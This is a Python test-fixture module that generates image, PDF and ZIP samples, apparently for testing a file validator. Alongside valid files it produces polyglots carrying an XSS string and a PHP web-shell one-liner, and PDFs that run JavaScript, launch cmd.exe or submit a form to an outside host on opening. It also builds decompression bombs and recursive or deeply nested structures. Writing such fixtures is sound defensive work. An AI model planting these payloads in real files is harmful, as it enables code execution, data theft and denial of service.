"""Files as they come: good ones, broken ones, and those that are two things at once."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

SCRIPT = b"<script>alert(document.domain)</script>"
PHP = b"<?php system($_GET['c']); ?>"


def picture(kind="JPEG", size=(40, 30), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **options)
    return out.getvalue()


def pdf(prepare=lambda writer: None, pages=1, password=None):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 300)
    prepare(writer)
    if password is not None:
        writer.encrypt("", owner_password=password, algorithm="AES-256-R5")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def archive(size=0, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("a.exe", b"MZ" + bytes(size))
        made.comment = comment
    return out.getvalue()


# -- pictures ------------------------------------------------------------------------------------


def jpeg_with(comment):
    """A valid picture whose comment is something else."""
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:]


def png_chunk(kind, data):
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def png_with(*chunks):
    whole = picture("PNG")
    return whole[:33] + b"".join(chunks) + whole[33:]


def png_of(width, height, rows=b"\x00"):
    """A header that announces any size, and some data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = png_chunk(b"IHDR", header), png_chunk(b"IDAT", zlib.compress(rows))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + png_chunk(b"IEND", b"")


def jpeg_of(width, height):
    whole = bytearray(picture("JPEG"))
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def swollen_text():
    """A text of a picture that unfolds into a hundred million letters."""
    return png_with(png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(100_000_000), 9)))


def telephone():
    """A photo as telephones make them: its orientation, its date, its place."""
    exif = Image.Exif()
    exif[0x0112], exif[0x0132] = 6, "2026:11:26 09:30:00"
    return picture("JPEG", (640, 480), exif=exif.tobytes(), quality=90)


def scanner():
    words = PngImagePlugin.PngInfo()
    words.add_text("Software", "scan <2.1> & Cie")
    return picture("PNG", (800, 600), "L", pnginfo=words)


# -- documents -----------------------------------------------------------------------------------


def running(writer):
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
    return writer._add_object(DictionaryObject(action))


def opens_a_script(writer):
    writer._root_object[NameObject("/OpenAction")] = running(writer)


def script_behind_many_bookmarks(writer):
    """The fifteenth bookmark of thirty runs something: a short look, from either end, misses it."""
    for number in range(30):
        writer.add_outline_item(title=f"Page {number}", page_number=0)
    item = writer._root_object["/Outlines"]["/First"]
    for _ in range(14):
        item = item["/Next"]
    item.get_object()[NameObject("/A")] = running(writer)


def script_under_a_link(writer):
    writer.add_annotation(
        page_number=0, annotation=Link(rect=(0, 0, 9, 9), url="https://exemple.fr")
    )
    link = writer.pages[0]["/Annots"][0].get_object()
    link[NameObject("/A")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )


def sends_its_form(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/SubmitForm"),
            NameObject("/F"): TextStringObject("https://ailleurs.example"),
        }
    )


def links_to_a_site(writer):
    writer.add_annotation(
        page_number=0, annotation=Link(rect=(0, 0, 9, 9), url="https://exemple.fr")
    )
    writer.add_outline_item(title="Ordonnance", page_number=0)
    writer.add_metadata({"/Title": "Ordonnance <copie> n° 3"})


def bomb():
    """Its table of objects is a stream that unfolds into gigabytes."""
    unfolded = zlib.compress(bytes(300_000_000), 9)
    twice = zlib.compress(unfolded, 9)
    head = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    pages = b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
    page = b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    start = len(head + pages + page)
    table = (
        b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]"
        + b"/Length %d>>\nstream\n" % len(twice)
        + twice
        + b"\nendstream\nendobj\n"
    )
    return head + pages + page + table + b"startxref\n%d\n%%%%EOF\n" % start


def deep():
    """Lists in lists in lists."""
    nested = b"/Deep " + b"[" * 20_000 + b"]" * 20_000
    return pdf().replace(b"/MediaBox [", nested + b" /MediaBox [")


def turning():
    """Pages whose children are their parents."""

    def prepare(writer):
        pages = writer._root_object["/Pages"].get_object()
        pages["/Kids"].append(writer._root_object.raw_get("/Pages"))

    return pdf(prepare)


def many_pages():
    """Thirty thousand references to one page."""

    def prepare(writer):
        pages = writer._root_object["/Pages"].get_object()
        one = pages["/Kids"][0]
        pages[NameObject("/Kids")] = ArrayObject([one] * 30_000)
        pages[NameObject("/Count")] = NumberObject(30_000)

    return pdf(prepare)
